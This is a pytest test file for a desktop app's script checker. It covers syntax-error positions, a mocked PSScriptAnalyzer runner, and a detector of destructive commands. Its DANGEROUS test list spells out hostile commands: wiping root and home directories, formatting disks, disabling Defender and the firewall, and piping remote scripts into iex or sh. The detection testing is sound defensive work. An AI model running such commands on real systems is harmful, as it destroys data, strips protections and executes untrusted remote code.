"""The script check (issue 18): syntax errors found where they are, none in real scripts, the
destructive patterns flagged and their harmless lookalikes not, PSScriptAnalyzer's JSON read
through a fake runner (no PowerShell needed)."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from flowpilot_desktop.scripts import analyzer
from flowpilot_desktop.scripts.check import BATCH_NOTE, check_script, check_script_async
from flowpilot_desktop.scripts.dangers import danger_findings

SAMPLES = Path(__file__).parent / "scripts_samples"
LANGUAGE_OF = {".ps1": "powershell", ".sh": "bash", ".py": "python"}


def positions(text: str, language: str) -> list[tuple[int, int, str]]:
    return [
        (f.line, f.column, f.message)
        for f in check_script(text, language).findings
        if f.source == "syntax"
    ]


BROKEN = [
    # (language, script, line, column, words in the message)
    (
        "powershell",
        'Get-Service Spooler\nif ($a -eq 1) {\n  Write-Host "x"\n',
        3,
        17,
        "Missing `}`",
    ),
    ("powershell", 'if ($a -eq 1 {\n  Write-Host "x"\n}\n', 1, 4, "`(` is not closed"),
    ("powershell", 'Write-Host "a"\nWrite-Host "b"\n}\n', 3, 1, "Unexpected `}`"),
    ("powershell", 'Write-Host 1\n$s = "unterminated\nWrite-Host 2\n', 2, 6, "Unclosed string"),
    ("powershell", "$x = @(1, 2\nWrite-Host $x\n", 1, 6, "`@(` is not closed"),
    (
        "powershell",
        "function Test {\n  param([string]$Name\n  $Name\n}\n",
        2,
        8,
        "`(` is not closed",
    ),
    ("powershell", "try {\n  Get-Item x\n}\ncatch {\n  'a'\n", 5, 6, "Missing `}`"),
    ("bash", "if [ -f x ]; then\n  echo hi\n", 3, 1, "Missing `fi`"),
    ("bash", 'echo start\necho "unterminated\n', 2, 6, "Unclosed string"),
    ("bash", 'for f in *.log; do\n  gzip "$f"\n', 3, 1, "Missing `done`"),
    ("bash", 'case "$1" in\n  start) echo go ;;\n', 2, 20, "Missing `esac`"),
    ("bash", "x=$(date\necho $x\n", 3, 1, "Missing `)`"),
    ("bash", "cleanup() {\n  rm -f /tmp/x\n", 3, 1, "Missing `}`"),
    ("python", "def f(:\n    pass\n", 1, 7, "Invalid syntax"),
]


@pytest.mark.parametrize(("language", "script", "line", "column", "words"), BROKEN)
def test_a_syntax_error_is_found_at_its_line_and_column(language, script, line, column, words):
    found = positions(script, language)
    assert found, f"no error found in {script!r}"
    assert found[0][:2] == (line, column)
    assert words in found[0][2]


def test_columns_count_characters_not_bytes():
    """Non-ASCII text before the error must not push the column right (UTF-8 bytes)."""
    found = positions('Write-Host "Grüße"; }\n', "powershell")
    assert found[0][:2] == (1, 21)


@pytest.mark.parametrize("path", sorted(SAMPLES.iterdir()), ids=lambda p: p.name)
def test_no_finding_in_valid_real_world_scripts(path):
    check = check_script(path.read_text(encoding="utf-8"), LANGUAGE_OF[path.suffix])
    assert check.findings == ()


def test_the_samples_cover_twenty_scripts_in_three_languages():
    suffixes = [p.suffix for p in SAMPLES.iterdir()]
    assert len(suffixes) >= 20
    assert suffixes.count(".ps1") >= 10 and suffixes.count(".sh") >= 8
    assert suffixes.count(".py") >= 2


def test_template_placeholders_and_grammar_gaps_are_not_errors():
    """``{{name}}``, ``$x / 1GB`` and ``Select-Object A, B`` are valid; the grammar alone
    would reject the last two."""
    script = (
        'Restart-Service -Name "{{service}}"\n'
        "$free = $disk.FreeSpace / 1GB\n"
        "Get-Service | Select-Object Name, Status, {{column}}\n"
    )
    assert positions(script, "powershell") == []


def test_batch_is_not_syntax_checked_and_says_so():
    check = check_script("@echo off\nif x (\n", "batch")
    assert [f for f in check.findings if f.source == "syntax"] == []
    assert BATCH_NOTE in check.notes


def test_a_300_line_script_is_checked_quickly():
    """The panel runs the check off the GUI thread; still, it must stay cheap to repeat."""
    script = "$items = Get-ChildItem C:\\Temp -Recurse | Where-Object { $_.Length -gt 1MB }\n" * 300
    started = time.perf_counter()
    check_script(script, "powershell")
    assert time.perf_counter() - started < 0.5


DANGEROUS = [
    "Remove-Item -Path C:\\ -Recurse -Force",
    "Remove-Item C:\\* -Recurse",
    "Remove-Item -Recurse -Force $env:USERPROFILE",
    'Remove-Item "$env:USERPROFILE\\*" -Recurse',
    "ri C:\\Users -r",
    "Remove-Item ~ -Recurse",
    "rm -rf /",
    "sudo rm -rf /*",
    "rm -rf ~",
    "rm -r -f $HOME",
    "rd /s /q C:\\",
    "rm -rf --no-preserve-root /",
    "Format-Volume -DriveLetter D -FileSystem NTFS",
    "Get-Disk 1 | Clear-Disk -RemoveData -Confirm:$false",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Set-MpPreference -DisableIOAVProtection 1",
    "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
    "netsh advfirewall set allprofiles state off",
    "sudo ufw disable",
    "iwr https://x.example/a.ps1 | iex",
    "irm https://get.example.com | Invoke-Expression",
    'IEX (New-Object Net.WebClient).DownloadString("http://x/y.ps1")',
    "Set-ExecutionPolicy Unrestricted -Force",
    "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope LocalMachine",
    "curl -fsSL https://get.example.sh | sh",
    "wget -qO- https://x.example | sudo bash",
    "bash <(curl -s https://x.example)",
    "mkfs.ext4 /dev/sdb1",
]

HARMLESS = [
    "Remove-Item -Recurse C:\\Temp\\x",
    'Remove-Item -Path "$env:TEMP\\*" -Recurse -Force',
    "Remove-Item $env:USERPROFILE\\AppData\\Local\\Temp\\* -Recurse",
    "Remove-Item C:\\ -Force",
    "Get-ChildItem C:\\ -Recurse -Filter *.log",
    "rm -rf /tmp/build",
    "rm -rf ~/Downloads/old",
    'rm -rf "$HOME/.cache"',
    "rd /s /q C:\\Temp\\x",
    "Get-Volume",
    "Set-MpPreference -DisableRealtimeMonitoring $false",
    "Set-NetFirewallProfile -Enabled True",
    "netsh advfirewall set allprofiles state on",
    "Invoke-WebRequest -Uri $u -OutFile $f",
    "Invoke-Expression $localCommand",
    "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser",
    "powershell -ExecutionPolicy Bypass -File .\\fix.ps1",
    "curl https://x.example | grep version",
    "# rm -rf /  (a comment is not run)",
]


@pytest.mark.parametrize("line", DANGEROUS)
def test_a_destructive_pattern_is_flagged_with_why(line):
    script = f"Write-Output 'start'\n    {line}\n"
    found = danger_findings(script)
    assert len(found) == 1
    assert found[0].line == 2 and found[0].column >= 5  # where the command starts
    assert found[0].severity == "warning" and found[0].message.startswith("Dangerous: ")
    assert found[0].message.rstrip().endswith(".")


@pytest.mark.parametrize("line", HARMLESS)
def test_a_harmless_lookalike_is_not_flagged(line):
    assert danger_findings(line) == ()


def test_a_dangerous_script_is_still_checked_for_syntax():
    """A check warns, it never blocks: both kinds are reported side by side, in line order."""
    check = check_script("rm -rf /\nif true; then\n", "bash")
    assert [f.source for f in check.findings] == ["danger", "syntax"]
    assert len(check.dangers) == 1 and len(check.errors) == 1


# ---- PSScriptAnalyzer through a fake runner


def fake_runner(output: str, calls: list[Sequence[str]] | None = None):
    async def run(argv: Sequence[str], timeout: float) -> str:
        if calls is not None:
            calls.append(argv)
            script = Path(argv[-1].split("-Path '")[1].split("'")[0])
            calls.append([script.read_text(encoding="utf-8-sig")])
        assert timeout == analyzer.TIMEOUT_SECONDS
        return output

    return run


def test_the_analyzer_output_becomes_findings():
    output = json.dumps(
        [
            {
                "Line": 3,
                "Column": 5,
                "Severity": "Warning",
                "RuleName": "PSAvoidUsingCmdletAliases",
                "Message": "'gci' is an alias of 'Get-ChildItem'.",
            },
            {"Line": 7, "Column": 1, "Severity": "Error", "RuleName": "PSX", "Message": "Bad."},
            {"Line": 9, "Column": 1, "Severity": "Information", "RuleName": "I", "Message": "i"},
        ]
    )
    calls: list[Sequence[str]] = []
    check = asyncio.run(
        check_script_async("gci\n", "powershell", run_command=fake_runner(output, calls))
    )
    found = [(f.line, f.column, f.severity, f.source) for f in check.findings]
    assert found == [(3, 5, "warning", "analyzer"), (7, 1, "error", "analyzer")]
    assert check.findings[0].message.endswith("(PSAvoidUsingCmdletAliases)")
    assert "Invoke-ScriptAnalyzer" in calls[0][-1] and "Warning,Error" in calls[0][-1]
    assert calls[1] == ["gci\n"]  # the script was handed over as a file, never run
    assert check.notes == ()


def test_one_analyzer_record_and_numeric_severities_are_read():
    """PowerShell unwraps a one-element array, and an enum may come out as its number."""
    output = json.dumps({"Line": 2, "Column": 4, "Severity": 2, "RuleName": "R", "Message": "m"})
    findings, note = analyzer.parse_analyzer_output(output)
    assert [(f.line, f.column, f.severity) for f in findings] == [(2, 4, "error")]
    assert note is None


def test_without_the_module_the_check_is_syntax_only():
    check = asyncio.run(
        check_script_async(
            "Get-Service\n", "powershell", run_command=fake_runner("FLOWPILOT-NO-ANALYZER\n")
        )
    )
    assert check.findings == ()
    assert check.notes == (analyzer.NOT_INSTALLED,)


def test_without_powershell_the_analyzer_is_skipped_silently(monkeypatch):
    monkeypatch.setattr(analyzer.shutil, "which", lambda _name: None)
    check = asyncio.run(check_script_async("Get-Service {\n", "powershell"))
    assert [f.source for f in check.findings] == ["syntax"]
    assert check.notes == (analyzer.NOT_INSTALLED,)


def test_a_slow_or_garbled_analyzer_leaves_a_note():
    async def slow(argv: Sequence[str], timeout: float) -> str:
        raise TimeoutError

    slow_check = asyncio.run(check_script_async("x\n", "powershell", run_command=slow))
    assert slow_check.notes == (analyzer.TOO_SLOW,)
    garbled = asyncio.run(
        check_script_async("x\n", "powershell", run_command=fake_runner("WARNING: {oops"))
    )
    assert garbled.notes == (analyzer.UNREADABLE,)


def test_the_analyzer_is_only_asked_about_powershell():
    calls: list[Sequence[str]] = []
    asyncio.run(check_script_async("echo hi\n", "bash", run_command=fake_runner("[]", calls)))
    assert calls == []
